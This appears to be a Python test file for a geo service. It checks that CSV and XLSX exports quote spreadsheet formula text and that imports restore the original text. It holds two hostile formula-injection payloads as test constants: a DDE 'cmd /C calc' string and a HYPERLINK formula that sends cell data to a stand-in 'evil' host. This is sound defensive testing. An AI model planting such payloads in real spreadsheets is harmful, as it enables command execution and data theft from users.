"""Formula injection: text beginning with =, +, -, @, a tab or a carriage return is written to every CSV
with a quote before it (numbers never), and an import takes that quote away, so that an export goes
back unchanged and an edited one keeps such text as it was."""

from __future__ import annotations

import csv
import io

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely

from geo_service.formats import write_features
from geo_service.formats.cells import quoted_formula, quoted_table, unquoted_table

SITES = "/collections/stall_sites"
CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil/?"&A1,"click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 391", "'+86 391"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # already quoted: one more, so that reading back gives it as it was
        ("'x", "'x"),
        ("解放路早市", "解放路早市"),
        ("", ""),
        (-5, -5),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_formula_text_is_quoted_and_reads_back_as_it_was(text, written):
    assert quoted_formula(text) == written
    table = pd.DataFrame({"v": pd.Series([text], dtype=object)})
    assert quoted_table(table)["v"].iloc[0] == written
    assert unquoted_table(quoted_table(table))["v"].iloc[0] == text


def test_a_layer_csv_quotes_text_never_numbers():
    frame = gpd.GeoDataFrame(
        {"fid": [1, 2], "name": [LINK, "-3"], "capacity": [-3, 12]},
        geometry=[shapely.Point(113.25, 35.21), shapely.Point(113.26, 35.22)],
        crs=4326,
    )
    data, _ = write_features(frame, fmt="csv", layer="x")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["fid", "name", "capacity", "lon", "lat"]
    assert rows[1][1:3] == ["'" + LINK, "-3"]  # the text quoted, the negative number a number
    assert rows[2][1:3] == ["'-3", "12"]  # "-3" is text here (a name): quoted


def _rename(c, fid: int, name: str) -> None:
    version = c.get(f"{SITES}/items/{fid}").headers["etag"]
    r = c.patch(f"{SITES}/items/{fid}", json={"properties": {"name": name}}, headers={"If-Match": version})
    assert r.status_code == 200, r.text[:500]


def _names(c) -> dict[int, str]:
    items = c.get(f"{SITES}/items", params={"limit": 1000}).json()["features"]
    return {f["id"]: f["properties"]["name"] for f in items}


def test_the_layer_export_quotes_formulas_and_imports_back_unchanged(own_demo_client):
    c = own_demo_client
    _rename(c, 2, CALC)
    _rename(c, 3, LINK)
    _rename(c, 4, "'=quoted already")
    before = _names(c)
    exported = c.get(f"{SITES}/export", params={"f": "csv"})
    assert exported.status_code == 200
    rows = {r["fid"]: r for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))}
    assert rows["2"]["name"] == "'" + CALC
    assert rows["3"]["name"] == "'" + LINK
    assert rows["4"]["name"] == "''=quoted already"
    assert not any(r["name"].startswith(("=", "+", "-", "@")) for r in rows.values())
    # sent back as it is: nothing changes
    version = c.app.state.workspace.store.layer_version("stall_sites")
    again = c.post(f"{SITES}/import", files={"file": ("s.csv", exported.content)}, data={"mode": "replace"})
    assert again.status_code == 201, again.text[:800]
    assert (again.json()["updated"], again.json()["created"], again.json()["deleted"]) == (0, 0, 0)
    assert c.app.state.workspace.store.layer_version("stall_sites") == version
    assert _names(c) == before
    # edited in a spreadsheet (another column of the same row) and sent back: the text is the same
    table = pd.read_csv(io.BytesIO(exported.content), dtype=str, keep_default_na=False)
    table.loc[table["fid"] == "3", "capacity"] = "13"
    edited = ("\ufeff" + table.to_csv(index=False)).encode()
    r = c.post(f"{SITES}/import", files={"file": ("s.csv", edited)}, data={"mode": "replace"})
    assert r.status_code == 201, r.text[:800]
    assert r.json()["updated"] == 1
    assert _names(c) == before
    assert c.get(f"{SITES}/items/3").json()["properties"]["capacity"] == 13


def test_an_xlsx_export_and_a_quoted_xlsx_cell_read_back_as_they_were(own_demo_client):
    c = own_demo_client
    _rename(c, 2, LINK)
    _rename(c, 4, "'=quoted already")
    before = _names(c)
    exported = c.get(f"{SITES}/export", params={"f": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
    header = [cell.value for cell in sheet[1]]
    names = {
        row[header.index("fid")]: row[header.index("name")]
        for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert names[2] == LINK  # a text cell: no formula, written as it is
    assert names[4] == "''=quoted already"
    again = c.post(f"{SITES}/import", files={"file": ("s.xlsx", exported.content)}, data={"mode": "replace"})
    assert again.status_code == 201, again.text[:800]
    assert (again.json()["updated"], again.json()["created"]) == (0, 0)
    assert _names(c) == before


def test_the_audit_export_quotes_a_failed_logins_user_name(client):
    r = client.post("/auth/login", json={"name": LINK, "password": "wrong-password"})
    assert r.status_code in (401, 422), r.text[:300]
    exported = client.get("/audit/export", params={"f": "csv"})
    assert exported.status_code == 200
    text = exported.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    tried = [row for row in rows if row["path"] == "/auth/login"]
    assert tried, text[:500]
    assert tried[-1]["actor"] == "'" + LINK
    for row in rows:  # no cell of the file begins a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
